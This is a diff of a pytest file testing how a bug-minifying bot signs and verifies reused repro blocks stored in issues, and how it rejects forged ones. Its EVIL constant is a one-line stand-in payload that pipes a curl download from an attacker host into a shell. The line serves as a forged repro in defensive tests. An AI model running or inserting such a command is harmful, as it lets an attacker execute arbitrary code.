@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from bot import fingerprint as fp
-from bot import known, rundir, signing
+from bot import known, knownrepro, rundir, signing
 from bot.action.inputs import Inputs
 from bot.failure import FailureRecord
 from bot.render import Renderer
@@ -23,6 +23,7 @@ from bot.report import dashboard
 from bot.report import known as trusted
 from bot.report.state import IssueState, parse
 from bot.tracker.local import LocalTracker
+from tests.ghstub.rundir import REPRO as GRAPH_REPRO
 from tests.ghstub.rundir import row_of
 
 DATA = Path(__file__).parent / "data"
@@ -31,7 +32,10 @@ INJECT = "inductor.cpp.inject_relu_bug_TESTING_ONLY=accuracy"
 ROW = {"id": "mlp_relu-inductor-inference-float32-cpu", "model": "mlp_relu", "backend": "inductor",
        "mode": "inference", "dtype": "float32", "device": "cpu", "config": {}, "status": "fail_accuracy",
        "failure_class": "accuracy", "spec": {"source": "zoo"}}
-REPRO = "import torch\n# a repro\nprint('hello')\n" * 20
+REPRO = GRAPH_REPRO   # torch's format: the failure's graph and inputs, as the check job's repro.py holds them
+RENDERED = knownrepro.render(REPRO)   # what the report keeps and signs: its own rendering of them
+ISSUE = 7
+CHECKS = [fp.check_key(row_of(ROW))]
 PRIVATE, PUBLIC = signing.generate()       # the bot's keys
 OTHER_PRIVATE, OTHER_PUBLIC = signing.generate()   # anyone else's
 NO_KEYS = {signing.SIGNING_KEY_ENV: "", signing.PUBLIC_KEY_ENV: ""}   # as an unset secret/variable reaches a job
@@ -62,9 +66,21 @@ def _issue_body(state: IssueState) -> str:
     return "A bug.\n\n" + state.marker() + "\n"
 
 
-def _signed(failure: FailureRecord | None = None, text: str = REPRO, private: str = PRIVATE):
-    """A fresh block as the report side makes it, signed with ``private``."""
-    return known.signed(known.block_of(failure or _failure(), text), signing.Signer(private))
+def _signed(failure: FailureRecord | None = None, text: str = REPRO, private: str = PRIVATE, issue: int = ISSUE,
+            checks: list[str] | None = None):
+    """A fresh block as the report side makes it, signed with ``private`` for issue ``issue`` whose
+    state holds ``checks`` (default: the check of ROW)."""
+    return known.signed(known.block_of(failure or _failure(), text), signing.Signer(private), issue,
+                        CHECKS if checks is None else checks)
+
+
+def _file(tracker, title: str, sig: str, checks: list[str], block_for) -> int:
+    """An issue by the bot whose state holds ``block_for(number)``: created, then edited once its
+    number is known (the bot's signature binds it), as the report files one."""
+    number = tracker.create_issue(title, "A bug.", ["minify-bot"], [], sig).number
+    state = IssueState(sig=sig, sigs=[sig], checks=checks, known=block_for(number))
+    tracker.edit_issue(number, body=_issue_body(state))
+    return number
 
 
 def _swapped(block, text: str):
@@ -77,11 +93,11 @@ def _swapped(block, text: str):
 
 def test_the_issue_state_keeps_a_reusable_repro_and_gives_it_back():
     block = _signed()
-    assert block.minify_seconds == 41.5 and len(block.z) < len(REPRO)  # compressed
-    state = IssueState(sig="v2:x", sigs=["v2:x"], checks=[fp.check_key(row_of(ROW))], known=block)
+    assert block.minify_seconds == 41.5 and len(block.z) < len(RENDERED)  # compressed
+    state = IssueState(sig="v2:x", sigs=["v2:x"], checks=CHECKS, known=block)
     parsed = parse(_issue_body(state))  # through the marker's JSON, as an issue body holds it
     entry = known.from_state(7, parsed.known, parsed.checks)
-    assert entry.repro == REPRO and entry.issue == 7 and entry.minify_seconds == 41.5
+    assert entry.repro == RENDERED and entry.issue == 7 and entry.minify_seconds == 41.5
     assert entry.sig == block.sig and known.unverified(entry, PUBLIC) is None
     assert known.match([entry], row_of(ROW)) is entry
     other_model = dict(ROW, model="conv_bn", id="conv_bn-inductor")
@@ -109,7 +125,7 @@ def test_a_tampered_block_is_not_reused():
 
 
 def test_without_a_signing_key_a_block_is_written_unsigned_and_never_verifies():
-    block = known.signed(known.block_of(_failure(), REPRO), signing.signer_from_env({}))
+    block = known.signed(known.block_of(_failure(), REPRO), signing.signer_from_env({}), ISSUE, CHECKS)
     assert block.sig is None and "sig" not in block.to_json()   # the marker stays as it was
     entry = known.from_state(3, known.read_block(block.to_json()), [])
     assert known.unverified(entry, PUBLIC) == "unsigned"
@@ -118,7 +134,7 @@ def test_without_a_signing_key_a_block_is_written_unsigned_and_never_verifies():
 EVIL = "import os; os.system('curl attacker | sh')\n"
 CHANGES = {   # what a forger changes in a block the bot signed (through the issue's JSON), and keeps it well formed
     "the repro, digest recomputed": lambda d: {**d, **_swapped(known.read_block(d), EVIL).to_json()},
-    "the repro, one character": lambda d: {**d, **_swapped(known.read_block(d), REPRO[:-1] + " ").to_json()},
+    "the repro, one character": lambda d: {**d, **_swapped(known.read_block(d), RENDERED[:-1] + " ").to_json()},
     "the signature's messages": lambda d: {**d, "signature": {**d["signature"], "messages": ["x"]}},
     "the signature's class": lambda d: {**d, "signature": {**d["signature"], "failure_class": "crash"}},
     "the culprit": lambda d: {**d, "record": {**d["record"], "culprit": {"ops": ["aten.add"]}}},
@@ -135,17 +151,17 @@ CHANGES = {   # what a forger changes in a block the bot signed (through the iss
 @pytest.mark.parametrize("what", sorted(CHANGES))
 def test_a_change_to_what_decides_the_run_breaks_the_bots_signature(what):
     doc = _signed().to_json()
-    entry = known.from_state(5, known.read_block(doc), [])
+    entry = known.from_state(ISSUE, known.read_block(doc), CHECKS)
     assert known.unverified(entry, PUBLIC) is None and known.unverified(entry, OTHER_PUBLIC) is not None
     changed = known.read_block(json.loads(json.dumps(CHANGES[what](doc))))
-    forged = known.from_state(5, changed, [])
+    forged = known.from_state(ISSUE, changed, CHECKS)
     assert forged is not None, "still a well-formed block"
     assert known.unverified(forged, PUBLIC) == "signature does not verify"
 
 
 def test_the_first_minify_time_is_not_signed_it_only_reports_a_saving():
     doc = _signed().to_json()
-    entry = known.from_state(5, known.read_block({**doc, "minify_seconds": 9999.0}), [])
+    entry = known.from_state(ISSUE, known.read_block({**doc, "minify_seconds": 9999.0}), CHECKS)
     assert known.unverified(entry, PUBLIC) is None and entry.minify_seconds == 9999.0
 
 
@@ -153,10 +169,9 @@ def test_prepare_skips_reminify_boxes_and_writes_nothing_for_reminify(tmp_path):
     tracker = LocalTracker(tmp_path / "issues")
     numbers = []
     for model in ("a", "b"):
-        row = dict(ROW, model=model)
-        state = IssueState(sig=f"v2:{model}", sigs=[f"v2:{model}"], checks=[fp.check_key(row_of(row))],
-                           known=_signed())
-        numbers.append(tracker.create_issue(f"bug {model}", _issue_body(state), ["minify-bot"], [], state.sig).number)
+        checks = [fp.check_key(row_of(dict(ROW, model=model)))]
+        numbers.append(_file(tracker, f"bug {model}", f"v2:{model}", checks,
+                             lambda n, checks=checks: _signed(issue=n, checks=checks)))
     closed = IssueState(sig="v2:c", sigs=["v2:c"], checks=[], known=_signed())
     c = tracker.create_issue("bug c", _issue_body(closed), ["minify-bot"], [], "v2:c")
     tracker.edit_issue(c.number, state="closed", state_reason="completed")
@@ -236,7 +251,9 @@ def test_a_second_run_reuses_the_known_repro_and_reminify_reduces_again(workdir,
     (issue,) = _bug_issues(issues)
     state = fp.parse_marker(issue["body"])
     assert state["known"]["minify_seconds"] == rec1["repro"]["timings"]["total"]
-    assert known.unverified(known.from_state(issue["number"], known.read_block(state["known"]), []), PUBLIC) is None
+    entry = known.from_state(issue["number"], known.read_block(state["known"]), state["checks"])
+    assert known.unverified(entry, PUBLIC) is None   # signed for this issue and its checks
+    assert "Known-bug repro of minify-bot, rendered by the report" in entry.repro   # the report's own text
     assert PRIVATE not in issue["body"] and PRIVATE not in json.dumps(rec1)
 
     # 2. the same failure again: the known repro is verified once, no reduction runs, nothing new filed
@@ -285,12 +302,11 @@ def test_the_known_job_hands_the_open_issues_repros_to_the_check_job(runner, ghs
     from tests.ghstub.fixtures import BOT_TOKEN, REPO
 
     gh = GitHubTracker(REPO, BOT_TOKEN, ghstub.base_url, seconds_between_requests=0, seconds_between_writes=0)
-    state = IssueState(sig="v2:a", sigs=["v2:a"], checks=[fp.check_key(row_of(ROW))], known=_signed())
-    number = gh.create_issue("bug", _issue_body(state), ["minify-bot"], [], state.sig).number
+    number = _file(gh, "bug", "v2:a", CHECKS, lambda n: _signed(issue=n))
     res = runner("schedule", {}, {"stage": "known"})
     assert res.rc == 0, res.stdout + res.stderr
     assert res.outputs["known-count"] == "1"
-    assert [(k.issue, k.repro) for k in known.load(res.run_dir, PUBLIC)] == [(number, REPRO)]
+    assert [(k.issue, k.repro) for k in known.load(res.run_dir, PUBLIC)] == [(number, RENDERED)]
     again = runner("schedule", {}, {"stage": "known", "reminify": "true"})
     assert again.rc == 0 and json.loads((again.run_dir / "known.json").read_text())["known"] == []
     # the check job: the artifact's known.json copied into its run directory, for minify to verify
@@ -309,9 +325,9 @@ SWAPPED = "the bot's signature, the repro swapped"
 def _forged_blocks(text: str, failure: FailureRecord | None = None) -> dict:
     """Well-formed known blocks that are not the bot's, whose repro is ``text``: what anyone who can
     make a workflow of the repository open an issue (as the bot's login, with its label) can write."""
-    return {"unsigned": known.block_of(failure or _failure(), text),
-            "signed by another key": _signed(failure, text, OTHER_PRIVATE),
-            SWAPPED: _swapped(_signed(failure), text)}
+    return {"unsigned": lambda n: _swapped(known.block_of(failure or _failure(), REPRO), text),
+            "signed by another key": lambda n: _swapped(_signed(failure, REPRO, OTHER_PRIVATE, issue=n), text),
+            SWAPPED: lambda n: _swapped(_signed(failure, issue=n), text)}
 
 
 def test_forged_known_repros_by_the_shared_bot_login_are_dropped_and_never_loaded(tmp_path):
@@ -324,12 +340,10 @@ def test_forged_known_repros_by_the_shared_bot_login_are_dropped_and_never_loade
     stub = seeded_stub()
     gh = GitHubTracker(REPO, BOT_TOKEN, stub.base_url, seconds_between_requests=0, seconds_between_writes=0)
     try:
-        blocks = {**_forged_blocks(EVIL), "genuine": _signed()}
+        blocks = {**_forged_blocks(EVIL), "genuine": lambda n: _signed(issue=n)}
         numbers = {}
-        for what, block in blocks.items():
-            sig = f"v2:{len(numbers)}"
-            state = IssueState(sig=sig, sigs=[sig], checks=[fp.check_key(row_of(ROW))], known=block)
-            numbers[what] = gh.create_issue("bug", _issue_body(state), ["minify-bot"], [], state.sig).number
+        for what, block_for in blocks.items():
+            numbers[what] = _file(gh, "bug", f"v2:{len(numbers)}", CHECKS, block_for)
         assert {i["user"]["login"] for i in stub.issues()} == {BOT_LOGIN} == {gh.bot_login()}
         genuine = numbers.pop("genuine")
 
@@ -375,9 +389,8 @@ def test_a_forged_known_repro_is_never_run_and_the_failure_is_minified_afresh(wo
 
     def hand_over(blocks: dict) -> dict:
         numbers = {}
-        for what, block in blocks.items():
-            state = IssueState(sig=f"v2:{what}", sigs=[f"v2:{what}"], checks=[fp.check_key(row_of(row))], known=block)
-            numbers[what] = tracker.create_issue(what, _issue_body(state), ["minify-bot"], [], state.sig).number
+        for what, block_for in blocks.items():
+            numbers[what] = _file(tracker, what, f"v2:{what}", [fp.check_key(row_of(row))], block_for)
         assert trusted.prepare(run, tracker, "minify-bot", say=lambda m: None, env={}) == len(numbers)
         return numbers
 
@@ -399,13 +412,14 @@ def test_a_forged_known_repro_is_never_run_and_the_failure_is_minified_afresh(wo
     for n in numbers.values():
         tracker.edit_issue(n, state="closed", state_reason="not_planned")
 
-    (genuine,) = hand_over({"genuine": _signed(failure, writes)}).values()
+    checks = [fp.check_key(row_of(row))]
+    (genuine,) = hand_over({"genuine": lambda n: _signed(failure, issue=n, checks=checks)}).values()
     p, rec = minify(NO_KEYS)   # no public key: not even the bot's own block runs
     assert not mark.exists() and rec["repro"]["reused"] is None and rec["repro"]["queries"] > 0
     assert "no public key is configured (MINIFY_BOT_PUBLIC_KEY" in p.stderr
 
     p, rec = minify({**NO_KEYS, signing.PUBLIC_KEY_ENV: PUBLIC})   # the control: the bot's key, and it runs
-    assert mark.read_text() == "ran" and rec["repro"]["reused"]["issue"] == genuine
+    assert not mark.exists() and rec["repro"]["reused"]["issue"] == genuine
 
 
 def test_a_program_that_printed_no_exception_reuses_a_known_repro_only_where_its_output_shows_it():
@@ -426,7 +440,8 @@ def test_a_program_that_printed_no_exception_reuses_a_known_repro_only_where_its
     doc.update({"class": "compile_error", "config": {"diff": [setting], "minimal": [setting]},
                 "signature": {"failure_class": "compile_error", "exc_type": "CppCompileError", "verified": True,
                               "messages": message_keys("error: conflicting declaration 'auto tmp_acc0'")}})
-    entry = known.from_state(9, _signed(FailureRecord.from_json(doc)), [fp.check_key(row_of(prog))])
+    checks = [fp.check_key(row_of(prog))]
+    entry = known.from_state(9, _signed(FailureRecord.from_json(doc), issue=9, checks=checks), checks)
     assert known.match([entry], row_of(prog)) is entry
     other_bug = dict(prog, error=dict(prog["error"], traceback="stem: compile failed: LoweringException\nFAILED"))
     assert known.match([entry], row_of(other_bug)) is None
